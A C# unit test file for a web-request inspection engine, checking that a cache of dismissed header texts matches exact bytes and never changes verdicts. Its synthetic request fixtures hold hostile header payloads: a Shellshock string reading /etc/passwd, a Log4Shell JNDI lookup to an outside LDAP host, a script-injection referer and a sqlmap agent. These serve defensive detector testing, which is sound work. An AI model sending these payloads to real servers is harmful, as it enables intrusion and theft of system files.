using System.Text;
using Vedette.Engine.Events;
using Vedette.Engine.Signatures;

namespace Vedette.Engine.Tests.Signatures;

public sealed class DismissedTextsTests
{
    [Fact]
    public void OnlyTheSameBytesAreKnown()
    {
        var texts = new DismissedTexts();
        Assert.False(texts.Contains("curl/8.5.0"u8, out int slot));
        texts.Enter(slot, "curl/8.5.0"u8);

        Assert.True(texts.Contains("curl/8.5.0"u8, out _));
        Assert.False(texts.Contains("curl/8.5.1"u8, out _));
        Assert.False(texts.Contains("curl/8.5.0 "u8, out _));
    }

    [Fact]
    public void ALongTextIsNeverRemembered()
    {
        byte[] text = Encoding.ASCII.GetBytes(new string('a', DismissedTexts.MaxLength + 1));
        var texts = new DismissedTexts();
        Assert.False(texts.Contains(text, out int slot));
        texts.Enter(slot, text);
        Assert.False(texts.Contains(text, out _));
    }

    [Fact]
    public void RememberedTextsChangeNoVerdict()
    {
        var batch = new EventBatch(1 << 16, 1);
        var requests = new List<HttpEvent>();
        for (int i = 0; i < 2000; i++)
        {
            string agent = (i % 7) switch { 0 => $"Mozilla/5.0 (X11; Linux x86_64; rv:{i}.0) Gecko/20100101 Firefox/{i}.0", 1 => "sqlmap/1.7", 2 => "() { :; }; /bin/cat /etc/passwd", 3 => $"${{jndi:ldap://198.51.100.7/{i % 5}}}", _ => $"client/{i % 300}" };
            string referer = (i % 5) switch { 0 => "https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E", 1 => "-", _ => $"https://example.com/page/{i % 400}" };
            requests.Add(InspectorFixture.Make(batch, "/", agent: agent, referer: referer));
        }
        InspectionScratch? kept = new();
        foreach (var request in requests)
        {
            InspectionScratch? fresh = null;
            InspectorFixture.Inspector.Inspect(batch, request, ref fresh, out var plain);
            InspectorFixture.Inspector.Inspect(batch, request, ref kept, out var remembered);
            Assert.Equal(plain, remembered);
        }
    }
}
